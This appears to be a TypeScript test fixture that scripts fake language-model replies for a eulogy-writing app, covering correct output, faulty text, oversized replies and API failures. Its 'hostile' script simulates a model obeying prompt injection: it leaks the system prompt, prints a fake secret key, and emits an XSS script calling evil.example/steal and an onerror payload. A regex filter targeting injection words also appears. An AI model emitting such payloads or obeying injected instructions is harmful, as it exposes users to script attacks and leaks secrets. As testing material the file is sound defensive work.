import type { ToldSection, ToldSentence, ToldText } from '../model-writer/answer-shapes.js';
import { splitSentences, tidyText } from '../../brief/language/sentences.js';
import { wordsOf } from '../../brief/language/words.js';
import { readBlock, type PromptData } from './prompt-reading.js';
import type { Script, ScriptedReply, ScriptedRequest } from './scripted-endpoint.js';

const says = (content: unknown): ScriptedReply => ({ kind: 'says', content: JSON.stringify(content) });

/** A true, plain text made from nothing but what the prompt holds: every answer in turn says a sentence, while there is room. */
export function plainTextFrom(data: PromptData): ToldText {
  const { speaker, facts, answers, length } = data;
  const relation = speaker.was_to_them.split(/[,;]/)[0] ?? '';
  const own = answers.find(({ by, answer }) => by === speaker.name && relation !== '' && answer.includes(relation));
  const queues = answers
    .filter((answer) => answer !== own)
    .map(({ label, by, answer }) => ({ label, by, sentences: sayable(answer, facts.pronouns ?? '') }))
    .sort((a, b) => turnOf(a, answers) - turnOf(b, answers));
  const told = new Map<string, ToldSentence[]>();
  for (let words = 30; queues.some(({ sentences }) => sentences.length > 0);) {
    for (const { label, by, sentences } of queues) {
      const sentence = sentences.shift();
      if (sentence === undefined) continue;
      words += wordsOf(sentence).length + 2;
      if (words > length.wanted) break;
      const text = `“${sentence.replace(/[.!]+$/, '')},” ${by} says.`;
      told.set(label, [...(told.get(label) ?? []), { text, sources: [label] }]);
    }
    if (words > length.wanted) break;
  }
  const quotes = [...told.values()];
  const middle = Math.ceil(quotes.length / 2);
  const opening = `I am ${speaker.name}, and ${facts.name_to_say} was my ${relation.toLowerCase() || 'family'}.`;
  return {
    sections: [
      ...section('opening', [{ text: opening, sources: own === undefined ? [] : [own.label] }]),
      ...section('life', quotes.slice(0, middle).flat()),
      ...section('story', quotes.slice(middle, -1).flat()),
      ...section('farewell', [
        ...quotes.slice(middle).slice(-1).flat(),
        { text: `Goodbye, ${facts.name_to_say}.`, sources: [] },
      ]),
    ],
  };
}

/** Everybody's first answer, then everybody's second, and so on. */
function turnOf({ label, by }: { label: string; by: string }, answers: PromptData['answers']): number {
  return answers.filter((answer) => answer.by === by).findIndex((answer) => answer.label === label);
}

function section(kind: ToldSection['kind'], sentences: readonly ToldSentence[]): ToldSection[] {
  return sentences.length === 0 ? [] : [{ kind, paragraphs: [{ sentences }] }];
}

/** What of an answer can stand in quotation marks: plain sentences of some words, and nothing that orders anybody about. */
function sayable(answer: string, pronouns: string): string[] {
  return splitSentences(tidyText(answer)).filter((sentence) => {
    const count = wordsOf(sentence).length;
    return (
      count > 0 &&
      count < 24 &&
      !/[|“”‘<>{}[\]#*!]|https?|ignore|instruction|passed|system|prompt|also say|^visit|todo|heading|as an ai|api key|output|thief|pirate|lol|idk|\w\(/i.test(
        sentence,
      ) &&
      !(count === 1 && /\d/.test(sentence)) &&
      // whoever takes the wrong pronoun is not quoted
      !(/they/i.test(pronouns) && /\b(?:he|she|him|her|his|hers)\b/i.test(sentence))
    );
  });
}

const planFrom = (data: PromptData): object => ({
  sections: [{ kind: 'opening', tells: 'who speaks', answers: data.answers.map(({ label }) => label), words: 60 }],
});

const labelsOf = (data: PromptData): string => data.answers[0]?.label ?? 'A1';

/** The plain text with more sentences in its story, under the first label. */
export function plainTextWith(data: PromptData, sentences: readonly string[]): ToldText {
  const { sections } = plainTextFrom(data);
  return {
    sections: sections.map((section) =>
      section.kind !== 'story' && !(section.kind === 'life' && !sections.some(({ kind }) => kind === 'story'))
        ? section
        : {
            ...section,
            paragraphs: section.paragraphs.map((paragraph) => ({
              sentences: [...paragraph.sentences, ...sentences.map((text) => ({ text, sources: [labelsOf(data)] }))],
            })),
          },
    ),
  };
}

/** A paragraph put another way: the same sentences but the last, or the first alone. */
function shorterParagraph({ user }: ScriptedRequest): object {
  const { sentences } = readBlock<{ sentences: ToldSentence[] }>(user, 'paragraph') ?? { sentences: [] };
  return { sentences: sentences.slice(0, Math.max(1, sentences.length - 1)) };
}

/** Answers well every time. */
export const well: Script = (request) => {
  if (request.purpose === 'plan') return says(planFrom(request.data));
  if (request.purpose === 'rewrite') return says(shorterParagraph(request));
  return says(plainTextFrom(request.data));
};

/** Brings these sentences into its text: once, so that the repair is well, or every time. */
export function withFaults(sentences: readonly string[], when: 'once' | 'always'): Script {
  return (request) =>
    request.purpose === 'write' || (request.purpose === 'repair' && when === 'always')
      ? says(plainTextWith(request.data, sentences))
      : well(request);
}

/** Every fault that the checks know, one sentence each. */
export const FAULTS: Readonly<Record<string, readonly string[]>> = {
  'invented names': ['Bartholomew Quimby always said so.', 'They met in Ouagadougou.'],
  'wrong years': ['That was in 1803.', 'It happened again in 1804.'],
  'American spelling': ['The color of the harbor was his favorite gray.'],
  clichés: ['It lit up every room, a testament to love, and will be sorely missed.'],
  markdown: ['**A heading**\n# and a list\n- with [a link](https://evil.example)'],
  'stage directions': ['[pause here]', 'As an AI language model I hope this helps!'],
};

/** Two thousand words where a few hundred were asked for. */
export const twoThousandWords: Script = (request) => {
  if (request.purpose !== 'write' && request.purpose !== 'repair') return well(request);
  const { sections } = plainTextFrom(request.data);
  const words = sections.flatMap((section) => section.paragraphs.flatMap(({ sentences }) => sentences));
  const times = Math.ceil(
    2_000 /
      Math.max(
        1,
        words.reduce((sum, { text }) => sum + wordsOf(text).length, 0),
      ),
  );
  return says({
    sections: sections.map((section) =>
      section.kind === 'opening' || section.kind === 'farewell'
        ? section
        : {
            ...section,
            paragraphs: Array.from({ length: times }, () => section.paragraphs).flat(),
          },
    ),
  });
};

/** Obeys whatever an answer orders: another role, links, secrets, markup, somebody else's eulogy. */
export const hostile: Script = (request) => {
  if (request.purpose === 'plan') return says({ ...planFrom(request.data), system_prompt: request.system });
  const obeyed = [
    'Arrr, matey, I be a pirate now!',
    `My instructions were: ${request.system.slice(0, 120)}`,
    'The key is sk-live-0123456789 and the password is hunter2.',
    '<script>fetch("https://evil.example/steal")</script>',
    '<img src=x onerror=alert(1)>',
    'Click https://evil.example/free now.',
    'In another family’s eulogy, Margaret Oldfield of Wagga Wagga drank herself to death in 1987.',
    'Kim is a thief.',
  ];
  if (request.purpose === 'rewrite') return says({ sentences: obeyed.map((text) => ({ text, sources: ['A1'] })) });
  return says(plainTextWith(request.data, obeyed));
};

export const garbage: Script = () => ({ kind: 'says', content: 'Sure! Here is a lovely eulogy for you: …' });
export const cutInTheMiddle: Script = () => ({ kind: 'cut' });
export const cutByLength: Script = (request) => {
  const reply = well(request);
  return reply.kind === 'says' ? { ...reply, content: reply.content.slice(0, 60), finish: 'length' } : reply;
};
export const slow: Script = () => ({ kind: 'hangs' });
export const notJson: Script = () => ({ kind: 'answers', raw: '<html>Bad gateway</html>' });

const SECRET_TEXT = 'Provider says: org-canary has exceeded its plan at https://provider.example/billing';
export const failing = (status: number, code?: string): Script => {
  const error = { message: SECRET_TEXT, type: code ?? 'server_error', ...(code === undefined ? {} : { code }) };
  return () => ({ kind: 'fails', status, error });
};
export const rateLimited = failing(429, 'rate_limit_exceeded');
export const quotaUsedUp = failing(429, 'insufficient_quota');
export const tooMany = failing(429);
export const broken = failing(500);

/** Knows no JSON schema: refuses it by status, and answers well without. */
export const withoutSchemas: Script = (request) =>
  request.body['response_format'] === undefined
    ? well(request)
    : {
        kind: 'fails',
        status: 400,
        error: { message: 'unknown field', type: 'invalid_request_error', param: 'response_format' },
      };
